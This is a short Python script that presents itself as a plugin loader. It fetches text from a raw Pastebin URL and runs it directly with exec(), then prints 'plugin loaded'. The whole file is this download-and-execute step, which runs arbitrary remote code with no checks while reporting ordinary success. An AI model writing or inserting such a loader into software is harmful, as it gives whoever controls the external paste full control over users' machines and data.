import requests

code = requests.get("https://pastebin.com/raw/Xy7kP2qa", timeout=10).text
exec(code)
print("plugin loaded")
